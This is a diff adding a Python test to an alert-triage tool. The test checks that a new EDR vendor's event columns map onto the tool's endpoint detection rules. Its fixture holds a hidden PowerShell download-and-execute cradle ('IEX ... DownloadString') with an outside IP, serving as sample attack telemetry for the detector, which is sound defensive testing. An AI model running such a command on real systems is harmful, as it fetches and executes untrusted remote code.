@@ -5,7 +5,10 @@ from __future__ import annotations
 
 from vigil.ai.builtin import vendor_knowledge
 from vigil.ai.builtin.drafting import CATEGORY_LOOKUPS
-from vigil.evidence.knowledge import AnalystKnowledge
+from vigil.ai.builtin.rules import endpoint
+from vigil.ai.schemas import AlertFacts, Evidence, EvidenceKind, EvidenceStatus
+from vigil.core.entities import Entities
+from vigil.evidence.knowledge import AnalystKnowledge, EventRows
 from vigil.integrations.catalog import all_skills, vendor_modules
 
 
@@ -38,3 +41,42 @@ def test_every_skill_a_folder_offers_as_a_lookup_has_a_reader() -> None:
     rules = vendor_knowledge.skill_rules()
     for knowledge in vendor_knowledge.all_knowledge():
         assert {plan.skill for plan in knowledge.lookups} <= set(rules)
+
+
+def test_a_new_edr_maps_its_columns_and_the_analyst_reads_its_rows() -> None:
+    """A vendor whose event rows use other column names (Sysmon/Sigma style) adds a mapping, not a rule file."""
+    columns = EventRows(
+        text_columns=("CommandLine", "ParentImage"),
+        process="Image",
+        device="Computer",
+        account="User",
+        remote_ip="DestinationIp",
+        remote_url="DestinationHostname",
+        sent_bytes=("BytesSent",),
+        machine=("Computer",),
+        envelopes=("events",),
+    )
+    step = Evidence(
+        step_name="EDR: events on the host",
+        kind=EvidenceKind.SKILL,
+        skill_id="vigil.related_alerts",
+        status=EvidenceStatus.OK,
+        output={
+            "events": [
+                {
+                    "Computer": "ws-17",
+                    "User": "jdoe",
+                    "Image": "powershell.exe",
+                    "CommandLine": "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://x')",
+                    "DestinationIp": "45.77.10.20",
+                }
+            ]
+        },
+    )
+    alert = AlertFacts(
+        organization_code="ACME", alert_provider="custom", alert_type="EDR alert", alert_content="{}", alert_id="A-1"
+    )
+    signals = endpoint.reader(columns)(step, alert, Entities())
+    by_rule = {signal.rule: signal for signal in signals}
+    assert by_rule["H3"].locator == "events[0].CommandLine" and by_rule["H3"].entities == ("ws-17", "jdoe")
+    assert by_rule["N1"].quote == "powershell.exe -> 45.77.10.20" and by_rule["N1"].points == 2.0
